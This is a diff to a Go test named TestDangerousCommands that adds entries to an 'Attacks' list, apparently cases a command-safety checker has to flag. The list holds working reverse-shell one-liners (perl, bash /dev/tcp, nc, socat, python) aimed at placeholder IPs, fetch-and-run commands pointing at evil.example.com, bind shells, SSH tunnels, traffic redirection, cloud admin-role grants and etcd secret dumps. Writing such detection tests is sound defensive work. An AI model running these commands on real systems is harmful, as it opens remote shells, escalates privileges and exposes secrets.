@@ -42,6 +42,12 @@ func TestDangerousCommands(t *testing.T) {
 			"nc evil.example.com 80 | sh", "java -jar https://evil.example.com/x.jar", "rpm -i https://evil.example.com/x.rpm", "npm install https://evil.example.com/x.tgz",
 		},
 		Attacks: {
+			"perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton(\"203.0.113.4\")));exec(\"/bin/sh -i\")'", "lua -e 'local s=require(\"socket\");t=s.tcp();os.execute(x)'",
+			"busybox telnetd -l /bin/sh -p 2323", "/usr/sbin/dropbear -R -p 2222", "/usr/sbin/sshd -D", "ttyd -p 80 bash",
+			"ssh -R 2222:localhost:22 u@203.0.113.4", "autossh -M 0 -N -D 1080 u@203.0.113.4",
+			"iptables -t nat -A PREROUTING -p tcp --dport 443 -j DNAT --to 203.0.113.4", "nft add rule ip nat prerouting tcp dport 443 dnat to 203.0.113.4", "ip route add default via 203.0.113.4", "tcpdump -i any -w /tmp/x",
+			"aws iam attach-user-policy --policy-arn arn:aws:iam::aws:policy/AdministratorAccess --user-name x", "aws --region us-east-1 iam create-access-key --user-name x", "gcloud projects add-iam-policy-binding p --member x --role roles/owner", "az role assignment create --role Owner --assignee x",
+			"ETCDCTL_API=3 etcdctl --endpoints https://127.0.0.1:2379 get / --prefix", "etcdctl snapshot save /tmp/x",
 			"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "exec 5<>/dev/tcp/192.0.2.1/4444; cat <&5 | while read l; do $l 2>&5 >&5; done", "nc -e /bin/sh 192.0.2.1 4444", "ncat 192.0.2.1 4444 --exec /bin/bash",
 			"nc 192.0.2.1 4444 -c sh", "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f", "socat exec:'bash -li',pty,stderr tcp:192.0.2.1:4444", "telnet 192.0.2.1 4444 | /bin/bash | telnet 192.0.2.1 4445",
 			`python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("192.0.2.1",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'`,
